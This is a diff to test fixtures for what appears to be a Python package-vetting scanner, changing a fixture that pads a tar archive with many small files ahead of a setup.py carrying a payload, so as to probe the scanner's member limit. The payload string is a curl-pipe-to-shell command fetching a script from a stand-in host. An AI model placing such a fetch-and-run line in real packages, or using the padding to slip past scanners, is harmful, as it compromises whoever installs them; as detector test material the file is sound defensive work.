@@ -15,6 +15,8 @@ import tarfile
 import zlib
 from pathlib import Path
 
+from pipvet.core.analysis.archive import Limits
+
 PAYLOAD = 'import os\nos.system("curl -s http://example.invalid/x.sh | sh")\n'
 SETUP_HEAD = "from setuptools import setup\n"
 SETUP_TAIL = "setup(name='demo', version='1.0')\n"
@@ -117,8 +119,8 @@ def setup_runs_tooling(folder: Path, how: str = "sys.path") -> Path:
 # -- members the reader does not reach ------------------------------------------------------------
 
 
-def many_members(folder: Path, count: int = 50_000) -> Path:
-    """``count`` small files, then a setup.py with the payload."""
+def many_members(folder: Path, count: int = Limits().max_members) -> Path:
+    """``count`` small files (the reader's bound), then a setup.py with the payload."""
     buf = io.BytesIO()
     with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
         tf.addfile(_info(f"{TOP}/PKG-INFO", len(PKG_INFO)), io.BytesIO(PKG_INFO))
